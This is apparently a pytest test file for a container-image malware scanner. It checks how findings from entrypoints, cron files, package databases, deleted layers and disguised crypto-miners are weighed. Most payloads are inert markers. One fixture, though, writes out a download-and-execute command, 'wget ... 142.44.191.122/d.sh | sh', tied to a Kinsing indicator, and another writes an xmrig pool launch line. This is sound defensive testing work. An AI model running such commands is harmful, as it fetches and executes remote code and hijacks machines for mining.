"""Context weighing and image-level signals: what runs a file, package ownership, docs, deletions, combinations."""

from __future__ import annotations

import hashlib
import shutil
from pathlib import Path
from typing import Any

import pytest

from tests.support.oci import FileSpec, LayerBlob, tar_layer, whiteout, write_image_layout
from workers.domain import Category, Finding, ScanReport, Severity, Verdict
from workers.pipeline import Vetter, load_scanners
from workers.settings import PROJECT_ROOT
from workers.sources import OciLayoutSource

EXEC_MARK = b"EXEC-IDIOM-MARKER"
FILE_MARK = b"FILE-ARTIFACT-MARKER"
MINER_MARK = b"MINER-ARTIFACT-MARKER"
FAKE_ELF = b"\x7fELF\x02\x01\x01" + b"\0" * 57


def _yara(rule_id: str, marker: bytes, *, scope: str, category: str, elf: bool = False) -> str:
    ident = rule_id.replace(".", "_").replace("-", "_")
    condition = "$m and uint32(0) == 0x464c457f" if elf else "$m"
    return f"""rule {ident}
{{
    meta:
        id = "{rule_id}"
        description = "test rule {rule_id}"
        severity = "critical"
        confidence = "high"
        category = "{category}"
        attack = "T1059"
        scope = "{scope}"
    strings:
        $m = "{marker.decode()}"
    condition:
        {condition}
}}
"""


@pytest.fixture(scope="module")
def rules_dir(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """A tiny ruleset: one exec-scoped idiom, one file-scoped artifact, one miner binary rule, the context rules."""
    root = tmp_path_factory.mktemp("rules")
    specs = [
        ("test.exec-idiom", EXEC_MARK, "exec", "backdoor", False),
        ("test.file-artifact", FILE_MARK, "file", "backdoor", False),
        ("test.miner-binary", MINER_MARK, "file", "miner", True),
    ]
    # The image-level rules come from the shipped ruleset: their metadata is data.
    shutil.copytree(PROJECT_ROOT / "rules" / "context", root / "context")
    (root / "yara").mkdir()
    for rule_id, marker, scope, category, elf in specs:
        (root / "yara" / f"{rule_id}.yar").write_text(_yara(rule_id, marker, scope=scope, category=category, elf=elf))
        for kind, body in (("match", (FAKE_ELF if elf else b"") + marker), ("benign", b"nothing here")):
            (root / "samples" / rule_id / kind).mkdir(parents=True)
            (root / "samples" / rule_id / kind / "sample").write_bytes(body)
    return root


def _vet(path: Path, layers: list[LayerBlob], rules: Path, config: dict[str, Any] | None = None) -> ScanReport:
    write_image_layout(path, layers, config=config)
    vetter = Vetter(load_scanners(rules))
    return vetter.vet(OciLayoutSource(path, "latest"), "latest")


def _by_rule(report: ScanReport, rule: str) -> list[Finding]:
    return [f for f in report.findings if f.rule == rule]


def _dpkg(package: str, files: dict[str, bytes]) -> dict[str, bytes]:
    """A package database entry claiming ``files`` with their md5 sums."""
    listing = "".join(f"/{p}\n" for p in files).encode()
    sums = "".join(f"{hashlib.md5(data).hexdigest()}  {p}\n" for p, data in files.items()).encode()
    status = f"Package: {package}\nStatus: install ok installed\nVersion: 1\n\n".encode()
    return {
        "var/lib/dpkg/status": status,
        f"var/lib/dpkg/info/{package}.list": listing,
        f"var/lib/dpkg/info/{package}.md5sums": sums,
    }


def test_exec_idiom_counts_where_the_entrypoint_runs_it(tmp_path: Path, rules_dir: Path) -> None:
    script = b"#!/bin/sh\n" + EXEC_MARK + b"\n"
    entry = b"#!/bin/sh\nset -e\nexec /opt/tools/run.sh\n"
    layer = tar_layer({"usr/local/bin/entry.sh": FileSpec.file(entry, 0o755), "opt/tools/run.sh": script})
    report = _vet(tmp_path, [layer], rules_dir, {"config": {"Entrypoint": ["/usr/local/bin/entry.sh"]}})
    (hit,) = _by_rule(report, "test.exec-idiom")
    assert hit.severity is Severity.CRITICAL
    assert "entrypoint → /usr/local/bin/entry.sh" in hit.message
    assert hit.path == "/opt/tools/run.sh" and hit.in_final_fs is True
    assert report.verdict is Verdict.MALICIOUS


def test_exec_idiom_nothing_runs_is_capped(tmp_path: Path, rules_dir: Path) -> None:
    layer = tar_layer({"opt/tools/run.sh": b"#!/bin/sh\n" + EXEC_MARK})
    report = _vet(tmp_path, [layer], rules_dir, {"config": {"Cmd": ["nginx", "-g", "daemon off;"]}})
    (hit,) = _by_rule(report, "test.exec-idiom")
    assert hit.severity is Severity.MEDIUM
    assert "nothing in the image runs it" in hit.message
    assert report.verdict is not Verdict.MALICIOUS


def test_exec_idiom_in_a_crontab_counts(tmp_path: Path, rules_dir: Path) -> None:
    layer = tar_layer({"etc/cron.d/updater": b"* * * * * root " + EXEC_MARK + b"\n"})
    report = _vet(tmp_path, [layer], rules_dir)
    (hit,) = _by_rule(report, "test.exec-idiom")
    assert hit.severity is Severity.CRITICAL
    assert "cron" in hit.message


def test_shell_form_command_and_bare_names_resolve_on_path(tmp_path: Path, rules_dir: Path) -> None:
    layer = tar_layer({"usr/bin/helper": FileSpec.file(b"#!/bin/sh\n" + EXEC_MARK, 0o755)})
    config = {"config": {"Cmd": ["/bin/sh", "-c", "apt-get update; helper --daemon && tail -f /dev/null"]}}
    report = _vet(tmp_path, [layer], rules_dir, config)
    (hit,) = _by_rule(report, "test.exec-idiom")
    assert hit.severity is Severity.CRITICAL


@pytest.mark.parametrize("path", ["usr/share/doc/tool/README", "app/tests/payloads/rs.txt", "srv/notes.md"])
def test_documentation_and_test_data_are_informational(tmp_path: Path, rules_dir: Path, path: str) -> None:
    report = _vet(tmp_path, [tar_layer({path: b"example: " + EXEC_MARK + b" " + FILE_MARK})], rules_dir)
    hits = _by_rule(report, "test.exec-idiom") + _by_rule(report, "test.file-artifact")
    assert len(hits) == 2
    assert all(h.severity is Severity.INFO for h in hits)
    assert report.verdict is Verdict.CLEAN


def test_file_artifact_counts_anywhere(tmp_path: Path, rules_dir: Path) -> None:
    report = _vet(tmp_path, [tar_layer({"var/lib/thing/blob.bin": b"x" + FILE_MARK})], rules_dir)
    (hit,) = _by_rule(report, "test.file-artifact")
    assert hit.severity is Severity.CRITICAL


def test_verified_package_content_is_informational(tmp_path: Path, rules_dir: Path) -> None:
    script = b"#!/bin/sh\n" + EXEC_MARK + b"\n"
    files = {"usr/sbin/packaged-tool": script}
    report = _vet(tmp_path, [tar_layer({**files, **_dpkg("tool", files)})], rules_dir)
    (hit,) = _by_rule(report, "test.exec-idiom")
    assert hit.severity is Severity.INFO
    assert "package content of tool, checksum verified" in hit.message
    assert not _by_rule(report, "context.modified-package-file")


def test_ownership_does_not_lower_what_runs(tmp_path: Path, rules_dir: Path) -> None:
    # The package database is image content: a payload listed in it is still run by the cron file.
    script = b"#!/bin/sh\n" + EXEC_MARK + b"\n"
    files = {"usr/sbin/packaged-tool": script}
    layer = tar_layer({**files, **_dpkg("tool", files), "etc/cron.d/tool": b"* * * * * root /usr/sbin/packaged-tool\n"})
    report = _vet(tmp_path, [layer], rules_dir)
    (hit,) = _by_rule(report, "test.exec-idiom")
    assert hit.severity is Severity.CRITICAL
    assert "claimed by package tool (checksum verified), which does not lower its weight here" in hit.message


def test_a_miner_listed_in_the_package_database_stays_a_miner(tmp_path: Path, rules_dir: Path) -> None:
    miner = FAKE_ELF + MINER_MARK
    files = {"usr/lib/tool/helper": miner}
    report = _vet(tmp_path, [tar_layer({**files, **_dpkg("tool", files)})], rules_dir)
    (hit,) = _by_rule(report, "test.miner-binary")
    assert hit.severity is Severity.CRITICAL and "claimed by package tool" in hit.message


def test_conffile_checksums_come_from_the_status_file(tmp_path: Path, rules_dir: Path) -> None:
    conf = b"# shipped by the package\n" + FILE_MARK + b"\n"
    conffiles = f" /etc/tool.conf {hashlib.md5(conf).hexdigest()}\n /etc/old.conf {'0' * 32} obsolete\n"
    status = f"Package: tool\nStatus: install ok installed\nConffiles:\n{conffiles}\n".encode()
    files = {"etc/tool.conf": conf, "var/lib/dpkg/status": status, "var/lib/dpkg/info/tool.list": b"/etc/tool.conf\n"}
    (shipped,) = _by_rule(_vet(tmp_path / "ok", [tar_layer(files)], rules_dir), "test.file-artifact")
    assert shipped.severity is Severity.INFO and "package content of tool" in shipped.message
    edited = {**files, "etc/tool.conf": conf + b"# edited by the image\n"}
    report = _vet(tmp_path / "edited", [tar_layer(edited)], rules_dir)
    (hit,) = _by_rule(report, "test.file-artifact")
    assert hit.severity is Severity.CRITICAL and "checksum does not match" in hit.message
    # An edited configuration file is not an executable replaced: no modified-package-file finding for it.
    assert not _by_rule(report, "context.modified-package-file")


def test_replaced_package_binary_is_flagged(tmp_path: Path, rules_dir: Path) -> None:
    original = {"usr/bin/ls": FAKE_ELF + b"genuine ls"}
    base = tar_layer({**original, **_dpkg("coreutils", original)})
    trojan = tar_layer({"usr/bin/ls": FileSpec.file(FAKE_ELF + b"something else", 0o755)})
    report = _vet(tmp_path, [base, trojan], rules_dir)
    (finding,) = _by_rule(report, "context.modified-package-file")
    assert finding.path == "/usr/bin/ls"
    assert finding.layer == trojan.digest
    assert report.verdict is Verdict.SUSPICIOUS


def test_usr_merged_paths_are_owned_through_the_symlink(tmp_path: Path, rules_dir: Path) -> None:
    data = FAKE_ELF + b"bash"
    layer = tar_layer(
        {
            "bin": FileSpec.symlink("usr/bin"),
            "usr/bin/bash": data,
            "usr/bin/stray": FAKE_ELF + b"stray",
            **_dpkg("bash", {"bin/bash": data}),
        }
    )
    report = _vet(tmp_path, [layer], rules_dir)
    unowned = {f.path for f in _by_rule(report, "context.unowned-system-binary")}
    assert unowned == {"/usr/bin/stray"}
    assert all(f.severity is Severity.LOW for f in _by_rule(report, "context.unowned-system-binary"))
    assert report.verdict is Verdict.CLEAN


def test_no_package_database_means_no_ownership_claims(tmp_path: Path, rules_dir: Path) -> None:
    report = _vet(tmp_path, [tar_layer({"usr/bin/app": FAKE_ELF + b"app"})], rules_dir)
    assert not _by_rule(report, "context.unowned-system-binary")


def test_miner_named_like_a_system_program(tmp_path: Path, rules_dir: Path) -> None:
    layer = tar_layer({"usr/sbin/nginx": FileSpec.file(FAKE_ELF + MINER_MARK, 0o755)})
    report = _vet(tmp_path, [layer], rules_dir, {"config": {"Cmd": ["nginx"]}})
    (masquerade,) = _by_rule(report, "context.masquerading-miner")
    assert masquerade.category is Category.DEFENSE_EVASION and masquerade.path == "/usr/sbin/nginx"
    # Masquerading is evasion, so the miner is not an "open" one.
    assert {f.category for f in _by_rule(report, "test.miner-binary")} == {Category.MINER}
    assert report.verdict is Verdict.MALICIOUS


def test_open_miner_is_pua(tmp_path: Path, rules_dir: Path) -> None:
    # The layout directory names the repository (local/xmrig-image): the image says what it is.
    layer = tar_layer({"opt/xmrig/xmrig": FileSpec.file(FAKE_ELF + MINER_MARK, 0o755)})
    config = {"config": {"Entrypoint": ["/opt/xmrig/xmrig"]}}
    report = _vet(tmp_path / "xmrig-image", [layer], rules_dir, config)
    (miner,) = _by_rule(report, "test.miner-binary")
    assert miner.category is Category.PUA
    assert miner.message.startswith("open miner")


def test_undisclosed_or_renamed_miner_is_not_pua(tmp_path: Path, rules_dir: Path) -> None:
    config = {"config": {"Entrypoint": ["/opt/xmrig/xmrig"]}}
    plain = tar_layer({"opt/xmrig/xmrig": FileSpec.file(FAKE_ELF + MINER_MARK, 0o755)})
    report = _vet(tmp_path / "webapp", [plain], rules_dir, config)
    assert {f.category for f in _by_rule(report, "test.miner-binary")} == {Category.MINER}

    renamed = tar_layer({"opt/jdk/bin/jexec": FileSpec.file(FAKE_ELF + MINER_MARK, 0o755)})
    report = _vet(tmp_path / "xmrig-renamed", [renamed], rules_dir, {"config": {"Cmd": ["/opt/jdk/bin/jexec"]}})
    (renamed_finding,) = _by_rule(report, "context.renamed-miner")
    assert renamed_finding.path == "/opt/jdk/bin/jexec"
    assert {f.category for f in _by_rule(report, "test.miner-binary")} == {Category.MINER}
    assert report.verdict is Verdict.MALICIOUS


def test_miner_with_persistence_stays_a_miner(tmp_path: Path, rules_dir: Path) -> None:
    layer = tar_layer(
        {
            "opt/xmrig/xmrig": FileSpec.file(FAKE_ELF + MINER_MARK, 0o755),
            "etc/cron.d/m": b"* * * * * root " + FILE_MARK + b"\n",
        }
    )
    report = _vet(tmp_path / "xmrig-image", [layer], rules_dir)
    assert {f.category for f in _by_rule(report, "test.miner-binary")} == {Category.MINER}


def test_payload_deleted_in_a_later_layer_is_still_found(tmp_path: Path, rules_dir: Path) -> None:
    payload = tar_layer({"opt/m/kworker": FileSpec.file(FAKE_ELF + MINER_MARK, 0o755), "opt/m/x": FILE_MARK})
    cleanup = tar_layer({whiteout("opt/m"): b""})
    report = _vet(tmp_path, [payload, cleanup], rules_dir)
    (miner,) = _by_rule(report, "test.miner-binary")
    assert miner.in_final_fs is False
    assert miner.layer == payload.digest
    assert miner.severity is Severity.CRITICAL
    assert "deleted or replaced in a later layer" in miner.message
    assert report.verdict is Verdict.MALICIOUS


def test_executable_in_tmp_or_a_hidden_directory(tmp_path: Path, rules_dir: Path) -> None:
    layer = tar_layer(
        {
            "tmp/.ICE-unix/x": FAKE_ELF + b"a",
            "root/.configures/helper": FAKE_ELF + b"b",
            "root/.cache/pip/wheel/lib.so": FAKE_ELF + b"c",
        }
    )
    report = _vet(tmp_path, [layer], rules_dir)
    assert {f.path for f in _by_rule(report, "context.hidden-executable")} == {
        "/tmp/.ICE-unix/x",
        "/root/.configures/helper",
    }


def test_pool_evidence_beside_a_miner_combines(tmp_path: Path) -> None:
    shipped = PROJECT_ROOT / "rules"
    binary = FAKE_ELF + b"XMRig randomx donate-level stratum+tcp:// cryptonight"
    start = b"#!/bin/sh\n./xmrig -o stratum+tcp://pool.invalid:3333 -u 4wallet -p x\n"
    layer = tar_layer({"opt/app/xmrig": FileSpec.file(binary, 0o755), "opt/app/start.sh": start})
    report = _vet(tmp_path, [layer], shipped, {"config": {"Entrypoint": ["/opt/app/start.sh"]}})
    (combined,) = _by_rule(report, "context.miner-evidence-combined")
    assert "miner.xmrig-binary" in combined.message
    assert report.verdict is not Verdict.CLEAN


def test_indicator_in_the_config_command(tmp_path: Path) -> None:
    config = {"config": {"Cmd": ["/bin/sh", "-c", "wget -q -O - 142.44.191.122/d.sh | sh; tail -f /dev/null"]}}
    report = _vet(tmp_path, [tar_layer({"etc/os-release": b"ID=ubuntu\n"})], PROJECT_ROOT / "rules", config)
    (ioc,) = _by_rule(report, "ioc.kinsing")
    assert "142.44.191.122" in (ioc.evidence or "") and ioc.path is None
